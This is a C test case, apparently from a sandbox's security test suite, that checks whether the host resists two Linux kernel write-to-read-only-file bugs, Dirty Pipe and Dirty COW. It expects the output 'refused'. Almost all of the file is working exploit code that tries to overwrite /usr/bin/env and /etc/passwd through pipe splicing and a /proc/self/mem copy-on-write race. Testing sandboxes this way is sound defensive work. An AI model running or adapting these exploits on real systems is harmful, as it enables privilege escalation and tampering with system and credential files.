/*
 * attack: Writes into cached pages of files it may only read, by a pipe (CVE-2022-0847) and by copy-on-write races
 * (CVE-2016-5195); the runner compares the host's files afterwards.
 * limits: {"cpu_time_ms": 2000, "wall_time_ms": 3000}
 * expect: accepted stdout="refused\n"
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static void *mapped;

static void *drop_pages(void *unused)
{
    for (int i = 0; i < 100000; i++)
        madvise(mapped, 4096, MADV_DONTNEED);
    return unused;
}

int main(void)
{
    static const char *const paths[] = { "/usr/bin/env", "/etc/passwd" };
    char before[64], after[64], junk[4096];
    int won = 0;
    for (int i = 0; i < 2; i++) {
        int fd = open(paths[i], O_RDONLY), ends[2];
        (void)!pread(fd, before, sizeof before, 0);
        (void)!pipe(ends);
        for (int n = 0; n < 16; n++)
            (void)!write(ends[1], junk, sizeof junk);
        for (int n = 0; n < 16; n++)
            (void)!read(ends[0], junk, sizeof junk);
        off_t at = 0;
        (void)splice(fd, &at, ends[1], NULL, 1, 0);
        (void)!write(ends[1], "ESCAPED", 7);
        mapped = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
        int memory = open("/proc/self/mem", O_RDWR);
        pthread_t thread;
        pthread_create(&thread, NULL, drop_pages, NULL);
        for (int n = 0; n < 20000; n++)
            (void)!pwrite(memory, "ESCAPED", 7, (off_t)mapped);
        pthread_join(thread, NULL);
        (void)!pread(fd, after, sizeof after, 0);
        won += memcmp(before, after, sizeof before) != 0;
    }
    puts(won == 0 ? "refused" : "ESCAPED");
}
